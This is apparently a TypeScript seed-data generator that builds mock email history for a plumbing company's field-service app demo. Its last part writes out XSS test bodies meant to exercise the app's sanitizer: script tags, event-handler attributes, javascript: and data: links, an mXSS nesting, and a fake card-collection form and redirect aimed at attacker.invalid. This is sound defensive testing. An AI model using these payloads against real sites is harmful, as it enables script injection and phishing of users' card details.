import { compareKeys } from '../lib/text-order';
import { seededUuid } from './ids';
import { SYSTEM_SENDER } from './outbox';
import { customerName, primaryOf } from './record-views';
import { customerContext } from './seed-customers';
import { DAY_MS, MINUTE_MS } from './seed-helpers';
import { seedPortalLinks, type SeedPortalLinks } from './seed-portal-links';
import { bytesToBase64 } from '../lib/base64';
import { buildPdf } from '../lib/pdf-writer';
import type { Appointment, Customer, EmailAttachment, EmailCustomerSummary, EmailParty, Invoice, Job, MockUser, Proposal, SentEmail } from './types';

/**
 * Email History: proposals, invoices, appointment confirmations, account emails, one resend pair and
 * a few emails whose bodies carry hostile HTML (pasted marketing content, a forwarded reply) so the
 * client's sanitizer is exercised. Every email lies in the past; dates follow `now`.
 */

export interface EmailSeedInput {
  customers: readonly Customer[];
  jobs: readonly Job[];
  proposals: readonly Proposal[];
  invoices: readonly Invoice[];
  appointments: readonly Appointment[];
  users: readonly MockUser[];
}

export const COMPANY = 'Northwind Heating & Plumbing';
export const COMPANY_PARTY: EmailParty = { personName: COMPANY, emailAddress: 'office@northwind-hp.test' };
const OFFICE_COPY: EmailParty = { personName: 'Northwind Office', emailAddress: 'office@northwind-hp.test' };
const PROPOSAL_EMAILS = 8;
const INVOICE_EMAILS = 8;
const APPOINTMENT_EMAILS = 6;
const HISTORY_DAYS = 120;

const money = new Intl.NumberFormat('en-US', { style: 'currency', currency: 'USD' });
const longDate = new Intl.DateTimeFormat('en-US', { weekday: 'long', month: 'long', day: 'numeric', year: 'numeric' });
const shortTime = new Intl.DateTimeFormat('en-US', { hour: 'numeric', minute: '2-digit' });

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);
}

function partyOf(customer: Customer): EmailParty | null {
  const email = primaryOf(customer.emailList);
  if (!email) return null;
  const personName = customer.customerType === 'Company' ? `${customer.firstName} ${customer.lastName}` : customerName(customer);
  return { personName, emailAddress: email.address };
}

function paragraphs(...lines: string[]): string {
  return lines.map((line) => `<p>${line}</p>`).join('\n');
}

function signature(sender: string): string {
  return `<p>Kind regards,<br>${escapeHtml(sender)}<br>${escapeHtml(COMPANY)}<br>(503) 555-0142</p>`;
}

function pdfAttachment(label: string, filename: string, title: string, lines: readonly string[]): EmailAttachment {
  return {
    context: seededUuid(`email-attachment:${label}`),
    filename,
    contentType: 'application/pdf',
    data: bytesToBase64(buildPdf(title, lines)),
  };
}

function icsAttachment(label: string, appointment: Appointment, location: string): EmailAttachment {
  const stamp = (iso: string): string => iso.replace(/[-:]/g, '').replace(/\.\d{3}/, '');
  const text = [
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    'PRODID:-//Fieldline//Appointments//EN',
    'BEGIN:VEVENT',
    `UID:${appointment.context}@fieldline.test`,
    `DTSTAMP:${stamp(appointment.startDate)}`,
    `DTSTART:${stamp(appointment.startDate)}`,
    `DTEND:${stamp(appointment.endDate)}`,
    `SUMMARY:${COMPANY} - ${appointment.title}`.replace(/[,;]/g, (character) => `\\${character}`),
    `LOCATION:${location}`.replace(/[,;]/g, (character) => `\\${character}`),
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n');
  return {
    context: seededUuid(`email-attachment:${label}`),
    filename: 'appointment.ics',
    contentType: 'text/calendar',
    data: bytesToBase64(new TextEncoder().encode(text)),
  };
}

export function seedEmails(now: Date, input: EmailSeedInput, portalLinks: SeedPortalLinks = seedPortalLinks()): SentEmail[] {
  const customers = new Map(input.customers.map((customer) => [customer.context, customer]));
  const jobs = new Map(input.jobs.map((job) => [job.context, job]));
  const userName = (username: string): string => {
    const user = input.users.find((candidate) => candidate.username === username);
    return user ? `${user.firstName} ${user.lastName}` : username;
  };
  const office = userName('office@demo.test');
  const admin = userName('admin@demo.test');
  const earliest = now.getTime() - HISTORY_DAYS * DAY_MS;
  const latest = now.getTime() - 10 * MINUTE_MS;
  /** A time `minutes` after `from`, moved into office hours (8:00–17:59), never later than a few minutes ago. */
  const after = (from: string | Date, minutes: number): string => {
    const date = new Date(new Date(from).getTime() + minutes * MINUTE_MS);
    if (date.getHours() >= 18) date.setDate(date.getDate() + 1);
    if (date.getHours() < 8 || date.getHours() >= 18) date.setHours(8, date.getMinutes(), 0, 0);
    return new Date(Math.min(date.getTime(), latest)).toISOString();
  };
  const daysAgo = (days: number, hour: number, minute: number): string => {
    const date = new Date(now.getTime() - days * DAY_MS);
    date.setHours(hour, minute, 0, 0);
    return new Date(Math.min(date.getTime(), latest)).toISOString();
  };

  const summaryOf = (customer: Customer | undefined): EmailCustomerSummary | null => {
    if (!customer) return null;
    const parent = customer.parentContext ? customers.get(customer.parentContext) : undefined;
    return parent
      ? { context: parent.context, customerName: customerName(parent), subCustomerName: customerName(customer) }
      : { context: customer.context, customerName: customerName(customer), subCustomerName: null };
  };

  const emails: SentEmail[] = [];
  const email = (label: string, fields: Omit<SentEmail, 'context' | 'hasParent' | 'hasChild' | 'cc' | 'bcc' | 'attachments'> & Partial<SentEmail>): SentEmail => {
    const sent: SentEmail = {
      context: seededUuid(`email:${label}`),
      cc: [],
      bcc: [],
      attachments: [],
      hasParent: false,
      hasChild: false,
      parentContext: null,
      ...fields,
    };
    emails.push(sent);
    return sent;
  };

  /** Who a job's documents go to (its billing customer), a copy to the site contact, and the linked customer. */
  const addressees = (job: Job) => {
    const billing = customers.get(job.billingCustomerContext);
    const service = customers.get(job.serviceCustomerContext);
    const to = billing ? partyOf(billing) : null;
    const site = service && service.context !== billing?.context ? partyOf(service) : null;
    return { to, cc: site && site.emailAddress !== to?.emailAddress ? [site] : [], summary: summaryOf(service ?? billing), greeting: billing?.firstName ?? 'there' };
  };

  // Proposals, most recent first.
  const proposals = [...input.proposals]
    .filter((proposal) => Date.parse(proposal.date) >= earliest && Date.parse(proposal.date) < latest)
    .sort((a, b) => compareKeys(b.date, a.date))
    .slice(0, PROPOSAL_EMAILS);
  proposals.forEach((proposal, index) => {
    const job = jobs.get(proposal.jobContext);
    if (!job) return;
    const { to, cc, summary, greeting } = addressees(job);
    if (!to) return;
    const sender = index % 3 === 2 ? admin : office;
    const sent = after(proposal.date, 12 + index * 7);
    const link = portalLinks.link('proposal', proposal, to.emailAddress, sent);
    email(`proposal:${proposal.number}`, {
      subject: `Proposal #${proposal.number} from ${COMPANY}`,
      sent,
      sentByName: sender,
      from: [COMPANY_PARTY],
      to: [to],
      cc,
      bcc: index % 2 === 0 ? [OFFICE_COPY] : [],
      body: [
        `<p>Hi ${escapeHtml(greeting)},</p>`,
        paragraphs(
          `Thank you for the opportunity to quote <strong>${escapeHtml(job.name)}</strong>. Your proposal is attached and summarized below.`,
        ),
        '<table style="border-collapse:collapse;margin:8px 0">',
        `<tr><td style="padding:4px 12px 4px 0">Proposal</td><td style="padding:4px 0"><strong>#${proposal.number}</strong></td></tr>`,
        `<tr><td style="padding:4px 12px 4px 0">Total</td><td style="padding:4px 0"><strong>${money.format(proposal.total)}</strong></td></tr>`,
        '<tr><td style="padding:4px 12px 4px 0">Valid for</td><td style="padding:4px 0">30 days</td></tr>',
        '</table>',
        paragraphs(
          `<a href="${link}">Review and sign your proposal online</a>`,
          'A 50% deposit is required to schedule the work. Reply to this email or call us with any questions.',
        ),
        signature(sender),
      ].join('\n'),
      attachments: [
        pdfAttachment(`proposal:${proposal.number}`, `Proposal-${proposal.number}.pdf`, `Proposal #${proposal.number}`, [
          COMPANY,
          '1450 Alder Creek Road, Suite 200, Portland, OR 97214',
          '',
          `Prepared for: ${to.personName}`,
          `Job: ${job.name}`,
          `Date: ${longDate.format(new Date(proposal.date))}`,
          '',
          `Subtotal: ${money.format(proposal.subtotal)}`,
          `Discount: ${money.format(proposal.discount)}`,
          `Tax: ${money.format(proposal.tax)}`,
          `Total: ${money.format(proposal.total)}`,
          '',
          'Prices are valid for 30 days. A 50% deposit is required to schedule work.',
        ]),
      ],
      customerSummary: summary,
    });
  });

  // Issued invoices, most recent first; the second one is resent below.
  const invoices = [...input.invoices]
    .filter((invoice) => invoice.issued && Date.parse(invoice.date) >= earliest && Date.parse(invoice.date) < latest)
    .sort((a, b) => compareKeys(b.date, a.date))
    .slice(0, INVOICE_EMAILS);
  const invoiceEmails: SentEmail[] = [];
  invoices.forEach((invoice, index) => {
    const job = jobs.get(invoice.jobContext);
    if (!job) return;
    const { to, cc, summary, greeting } = addressees(job);
    if (!to) return;
    const sender = index % 4 === 3 ? admin : office;
    const due = new Date(`${invoice.dueDate}T12:00:00`);
    const sent = after(invoice.date, 45 + index * 11);
    const link = portalLinks.link('invoice', invoice, to.emailAddress, sent);
    invoiceEmails.push(
      email(`invoice:${invoice.number}`, {
        subject: `Invoice #${invoice.number} from ${COMPANY}`,
        sent,
        sentByName: sender,
        from: [COMPANY_PARTY],
        to: [to],
        cc,
        body: [
          `<p>Hi ${escapeHtml(greeting)},</p>`,
          paragraphs(
            `Thank you for your business. Invoice <strong>#${invoice.number}</strong> for ${escapeHtml(job.name)} is attached.`,
            `Amount due: <strong>${money.format(invoice.total)}</strong>, due ${escapeHtml(longDate.format(due))}.`,
            `<a href="${link}">Pay your invoice online</a> by card, or mail a check to 1450 Alder Creek Road, Suite 200, Portland, OR 97214.`,
          ),
          signature(sender),
        ].join('\n'),
        attachments: [
          pdfAttachment(`invoice:${invoice.number}`, `Invoice-${invoice.number}.pdf`, `Invoice #${invoice.number}`, [
            COMPANY,
            '1450 Alder Creek Road, Suite 200, Portland, OR 97214',
            '',
            `Bill to: ${to.personName}`,
            `Job: ${job.name}`,
            `Invoice date: ${longDate.format(new Date(invoice.date))}`,
            `Due date: ${longDate.format(due)}`,
            '',
            `Subtotal: ${money.format(invoice.subtotal)}`,
            `Discount: ${money.format(invoice.discount)}`,
            `Tax: ${money.format(invoice.tax)}`,
            `Amount due: ${money.format(invoice.total)}`,
          ]),
        ],
        customerSummary: summary,
      }),
    );
  });

  // The resend pair: the second invoice email, sent again a few days later with the same content.
  const original = invoiceEmails[1] ?? invoiceEmails[0];
  if (original) {
    original.hasChild = true;
    const { context: _originalContext, ...copy } = structuredClone(original);
    email(`resend:${original.context}`, {
      ...copy,
      sent: after(original.sent, 4 * 24 * 60 + 75),
      sentByName: office,
      attachments: original.attachments.map((attachment) => ({
        ...attachment,
        context: seededUuid(`email-attachment:resend:${attachment.context}`),
      })),
      hasParent: true,
      hasChild: false,
      parentContext: original.context,
    });
  }

  // Appointment confirmations, sent two days before the visit (or when booked, if later).
  const withCustomer = input.appointments
    .filter((appointment) => appointment.customerContext && customers.has(appointment.customerContext))
    .filter((appointment) => Date.parse(appointment.startDate) - 2 * DAY_MS >= earliest && Date.parse(appointment.startDate) - 2 * DAY_MS < latest)
    .sort((a, b) => compareKeys(b.startDate, a.startDate))
    .filter((_appointment, index) => index % 3 === 0)
    .slice(0, APPOINTMENT_EMAILS);
  withCustomer.forEach((appointment, index) => {
    const customer = customers.get(appointment.customerContext!)!;
    const to = partyOf(customer);
    if (!to) return;
    const start = new Date(appointment.startDate);
    const address = customer.addresses.find((candidate) => candidate.context === appointment.addressContext) ?? customer.addresses[0];
    const location = address ? `${address.street1}${address.street2 ? ` ${address.street2}` : ''}, ${address.city}, ${address.state} ${address.postalCode}` : '';
    email(`appointment:${appointment.context}`, {
      subject: `Appointment confirmation: ${longDate.format(start)}`,
      sent: after(new Date(start.getTime() - 2 * DAY_MS), (index + 1) * 37),
      sentByName: SYSTEM_SENDER.personName,
      from: [COMPANY_PARTY],
      to: [to],
      body: [
        `<p>Hi ${escapeHtml(customer.firstName)},</p>`,
        paragraphs(
          `This confirms your appointment with ${escapeHtml(COMPANY)}:`,
          `<strong>${escapeHtml(appointment.title)}</strong><br>${escapeHtml(longDate.format(start))} at ${escapeHtml(shortTime.format(start))}${location ? `<br>${escapeHtml(location)}` : ''}`,
          'Our technician will call when on the way. Please make sure the work area is accessible and pets are secured.',
          'Need to reschedule? Reply to this email or call (503) 555-0142 at least 24 hours ahead.',
        ),
        signature('The Northwind team'),
      ].join('\n'),
      attachments: [icsAttachment(`appointment:${appointment.context}`, appointment, location)],
      customerSummary: summaryOf(customer),
    });
  });

  // Account emails sent by the system.
  const accountEmail = (label: string, username: string, subject: string, sent: string, body: string[]) => {
    const user = input.users.find((candidate) => candidate.username === username);
    if (!user) return;
    email(label, {
      subject,
      sent,
      sentByName: SYSTEM_SENDER.personName,
      from: [SYSTEM_SENDER],
      to: [{ personName: `${user.firstName} ${user.lastName}`, emailAddress: user.username }],
      body: body.join('\n'),
      customerSummary: null,
    });
  };
  for (const [label, username, days] of [
    ['reset:tech', 'tech@demo.test', 41],
    ['reset:office', 'office@demo.test', 9],
  ] as const) {
    const user = input.users.find((candidate) => candidate.username === username);
    accountEmail(label, username, 'Reset your Fieldline password', daysAgo(days, 7, 48), [
      `<p>Hi ${escapeHtml(user?.firstName ?? '')},</p>`,
      `<p>We received a request to reset the password of your Fieldline account for ${escapeHtml(COMPANY)} (${escapeHtml(username)}).</p>`,
      `<p><a href="https://app.fieldline.test/#/reset-password/${seededUuid(`reset-link:${label}`)}">Reset your password</a></p>`,
      '<p>If you did not ask for this, you can ignore this email and your password will stay the same.</p>',
      '<p>The Fieldline team</p>',
    ]);
  }
  accountEmail('invite:new', 'new@demo.test', `You're invited to ${COMPANY} on Fieldline`, daysAgo(3, 10, 5), [
    '<p>Hi Nora,</p>',
    `<p>${escapeHtml(admin)} invited you to join ${escapeHtml(COMPANY)} on Fieldline, where the team manages jobs, schedules and timesheets.</p>`,
    '<p><a href="https://app.fieldline.test/#/get-started/00000000-0000-4000-8000-000000000002/new%40demo.test">Create your password</a></p>',
    '<p>The link expires in 7 days.</p>',
    '<p>The Fieldline team</p>',
  ]);

  // Hostile bodies: content pasted from elsewhere, carrying scripts, handlers and javascript: links.
  const customer = (key: string): Customer | undefined => customers.get(customerContext(key));
  const hostile = (label: string, key: string, days: number, subject: string, body: string[], attachments: EmailAttachment[] = []) => {
    const recipient = customer(key);
    const to = recipient ? partyOf(recipient) : null;
    if (!recipient || !to) return;
    email(label, {
      subject,
      sent: daysAgo(days, 15, 20),
      sentByName: office,
      from: [COMPANY_PARTY],
      to: [to],
      body: body.join('\n'),
      attachments,
      customerSummary: summaryOf(recipient),
    });
  };
  hostile('hostile:tune-up', 'maple-court', 16, 'Spring tune-up special for Maple Court', [
    '<style>body { display: none !important; } .MuiAppBar-root { display: none; }</style>',
    '<script>window.__pwned = "script"; alert("pwned");</script>',
    '<h2 style="color:#1565c0">Spring tune-up special</h2>',
    '<p>Book your spring tune-up before April 30 and save 15% on every unit at your properties.</p>',
    '<img src="x" onerror="window.__pwned = \'img\'; alert(\'img\')" alt="Tune-up banner">',
    '<p><a href="javascript:window.__pwned=\'link\';alert(\'link\')">Claim the discount</a></p>',
    '<p onclick="window.__pwned=\'click\'" onmouseover="window.__pwned=\'hover\'">Hover or click here for the fine print.</p>',
    signature(office),
  ]);
  hostile('hostile:warranty', 'becker', 27, 'Re: Furnace warranty question', [
    '<p>Hi Tom,</p>',
    '<p>Your Carrier furnace is covered for parts until 2029. The registration is on file with us.</p>',
    '<iframe src="javascript:parent.__pwned=\'iframe\'" srcdoc="<script>parent.__pwned=\'srcdoc\'</script>" title="Warranty"></iframe>',
    '<p><a href="JaVaScRiPt:window.__pwned=\'mixed-case\'">Open the warranty details</a></p>',
    '<svg onload="window.__pwned=\'svg\'"><circle r="4"></circle></svg>',
    '<blockquote>&gt; On Monday Tom Becker wrote:<br>&gt; Is the heat exchanger still covered?</blockquote>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">',
    signature(office),
  ]);
  hostile('hostile:dental', 'hawthorne-dental', 52, 'Quarterly service notes for Hawthorne Dental Clinic', [
    '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
    '<base href="https://attacker.invalid/">',
    '<p>Quarterly inspection complete: water heater, backflow preventer and rooftop unit all passed.</p>',
    '<form action="https://attacker.invalid/collect" method="post"><input name="card" placeholder="Card number"><button type="submit">Confirm payment</button></form>',
    '<object data="javascript:window.__pwned=\'object\'"></object><embed src="javascript:window.__pwned=\'embed\'">',
    '<p><a href="https://www.example.com/maintenance-checklist" onclick="window.__pwned=\'onclick\'">Maintenance checklist</a></p>',
    '<div style="position:fixed;inset:0;background:#fff" onmouseenter="window.__pwned=\'overlay\'">Next visit: in three months.</div>',
    signature(office),
  ]);
  hostile(
    'hostile:bistro',
    'bluebird',
    74,
    'Grease trap service report',
    [
      '<p>Hi Nina,</p>',
      '<p>The grease trap was pumped and inspected. The disposal manifest is attached.</p>',
      '<img src="https://www.example.com/pixel.gif" onload="window.__pwned=\'onload\'" width="1" height="1" alt="">',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open the report</a>',
      '<details open ontoggle="window.__pwned=\'toggle\'"><summary>Technician notes</summary>Baffle wall intact; next pump-out in 90 days.</details>',
      signature(office),
    ],
    [
      pdfAttachment('hostile:bistro', 'grease-trap-report.pdf', 'Grease Trap Service Report', [
        'Bluebird Bistro, 3016 NE Broadway St, Portland, OR 97232',
        'Trap pumped: 1,000 gallon interceptor',
        'Baffle wall intact. Next service in 90 days.',
      ]),
    ],
  );

  return emails.sort((a, b) => compareKeys(a.sent, b.sent));
}
